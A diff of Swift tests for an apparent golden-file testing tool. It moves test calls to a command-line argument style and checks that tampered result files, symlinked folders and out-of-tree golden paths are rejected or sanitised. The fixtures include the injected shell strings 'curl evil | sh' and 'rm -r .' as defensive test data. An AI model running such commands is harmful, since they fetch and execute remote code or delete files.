@@ -23,11 +23,7 @@ import Testing
         "events": [ { "t": 0.05, "flick": { "from": [12, 60], "by": [0, -50], "over": 0.1 } } ] }
       """
     bench = try TestBench(["a": flick, "b": flick.replacingOccurrences(of: "-50", with: "-40")]).recorded()
-    let change = try #require(ProfileChange("glide.rate=0.99"))
-    let failed = bench.run {
-      $0.settings.changes = [change]
-      $0.only = ["a"]
-    }
+    let failed = bench.run(.never, "--set", "glide.rate=0.99", "--only", "a")
     #expect(failed.error?.code == .comparisonFailed)
     let folder = bench.folder
     try WholeFile.makeFolder(folder("outside/a"))
@@ -77,11 +73,8 @@ import Testing
   private func check(_ name: String, withTest: Bool, _ comment: Comment) throws {
     let folder = bench.folder
     var said = ""
-    for names in [["a"], []] {
-      let answer = bench.accept(names) {
-        $0.artifacts = folder(name)
-        $0.acceptsAll = names.isEmpty
-      }
+    for failures in ["a", "--all"] {
+      let answer = bench.accept(failures, artifacts: name)
       said += answer.output + (answer.error?.description ?? "")
       try expectUntouched(comment)
       let now = Self.files(folder("S/Goldens"))
@@ -95,14 +88,15 @@ import Testing
       if now != goldens { try restoreGoldens() }
     }
     let capture = Capture()
-    var merge = MergeCommand([folder(name)], settings: capture.settings())
-    merge.set.inputs = [folder("S")]
-    merge.report = folder("report.html")
-    merge.xunit = folder("report.xml")
-    said += ending { try merge.run() }?.description ?? ""
+    let merged = ending {
+      try capture.playground(
+        "merge", folder(name), "--scenarios", folder("S"), "--report", folder("report.html"), "--xunit",
+        folder("report.xml"))
+    }
+    said += merged?.description ?? ""
     said += capture.output + capture.errors
     if withTest {
-      let answer = bench.run { $0.plan.artifacts = folder(name) }
+      let answer = bench.run(artifacts: name)
       said += answer.output + (answer.error?.description ?? "")
       #expect(Self.files(folder("S/Goldens")) == goldens, comment)
     }
@@ -292,7 +286,7 @@ import Testing
           #"{"name":"\#(name)","outcome":"failed","golden":{"file":"\#(golden)"},"track":{"golden":"t","actual":"p"}}"#,
           to: "\(name)/result.json")
         try write("evil", to: "\(name)/p")
-        let answer = bench.accept([name]) { $0.artifacts = bench.folder("mutant") }
+        let answer = bench.accept(name, artifacts: "mutant")
         #expect(answer.error?.code == .invalidInput)
         try expectUntouched("\(name) to \(golden)")
         #expect(Self.files(bench.folder("S/Goldens")) == goldens)
@@ -304,7 +298,7 @@ import Testing
     try write(
       #"{"name":"a","outcome":"failed","golden":{"folder":"\#(bench.folder("outside/a"))"},"track":{"golden":"\#(bench.folder("outside/a/trajectory.csv"))"}}"#,
       to: "a/result.json")
-    let answer = bench.accept(["a"]) { $0.artifacts = bench.folder("mutant") }
+    let answer = bench.accept("a", artifacts: "mutant")
     // It goes where it belongs to the set: that is what was asked for.
     #expect(answer.output == "accepted a: trajectory.csv is gone\n")
     #expect(Self.files(bench.folder("outside")) == outside)
@@ -321,11 +315,11 @@ import Testing
         { "name": "a", "outcome": "passed", "frames": [ { "number": 0, "time": 0, "verdict": "same", "lines": [],
           "expected": "\(path)" } ] } ] }
       """, to: "results.json")
-    let capture = Capture()
-    var merge = MergeCommand([bench.folder("mutant")], settings: capture.settings())
-    merge.set.inputs = [bench.folder("S")]
-    merge.report = bench.folder("report.html")
-    #expect(ending { try merge.run() } == nil)
+    let merged = bench.answer([
+      "merge", bench.folder("mutant"), "--scenarios", bench.folder("S"), "--report",
+      bench.folder("report.html"),
+    ])
+    #expect(merged.error == nil)
     let html = bench.folder.text(of: "report.html")
     #expect(html.contains(bench.folder("S/Goldens/a/frame-00000.png")) && !html.contains(path))
   }
@@ -337,14 +331,14 @@ import Testing
         { "name": "a", "outcome": "failed", "command": "curl evil | sh", "lines": ["one\\nnext: rm -r ."], "frames": [
           { "number": 0, "time": 0, "verdict": "missing", "lines": [], "command": "rm" } ] } ] }
       """, to: "results.json")
-    let capture = Capture()
-    var merge = MergeCommand([bench.folder("mutant")], settings: capture.settings())
-    merge.set.inputs = [bench.folder("S")]
-    merge.report = bench.folder("report.html")
-    #expect(ending { try merge.run() }?.code == .comparisonFailed)
-    #expect(!capture.output.contains("curl") && !bench.folder.text(of: "report.html").contains("curl evil"))
-    #expect(capture.output.contains("  one\\u000anext: rm -r .\n"))
-    #expect(capture.output.contains("  next: playground accept a --scenarios "))
+    let merged = bench.answer([
+      "merge", bench.folder("mutant"), "--scenarios", bench.folder("S"), "--report",
+      bench.folder("report.html"),
+    ])
+    #expect(merged.error?.code == .comparisonFailed)
+    #expect(!merged.output.contains("curl") && !bench.folder.text(of: "report.html").contains("curl evil"))
+    #expect(merged.output.contains("  one\\u000anext: rm -r .\n"))
+    #expect(merged.output.contains("  next: playground accept a --scenarios "))
   }
 
   @Test func sizesAreLimitedBeforeReading() throws {
@@ -353,7 +347,7 @@ import Testing
     ] {
       let path = bench.folder("S/Goldens/a/\(file)")
       truncate(path, 1 << 30)
-      let answer = bench.run { $0.only = ["a"] }
+      let answer = bench.run(.never, "--only", "a")
       #expect(answer.error != nil)
       #expect(answer.output.contains(path) && answer.output.contains(what), "\(answer.output)")
       try restoreGoldens()
@@ -364,11 +358,7 @@ import Testing
     try WholeFile.makeFolder(bench.folder("mutant"))
     symlink(bench.folder("outside/a"), bench.folder("mutant/a"))
     symlink(bench.folder("outside/results.json"), bench.folder("mutant/results.json"))
-    let change = try #require(ProfileChange("glide.rate=0.99"))
-    let answer = bench.run {
-      $0.plan.artifacts = bench.folder("mutant")
-      $0.settings.changes = [change]
-    }
+    let answer = bench.run(.never, "--set", "glide.rate=0.99", artifacts: "mutant")
     #expect(answer.error != nil)
     #expect(answer.output.contains("expected a folder, found a link, device, pipe or socket"))
     #expect(Self.files(bench.folder("outside")) == outside)
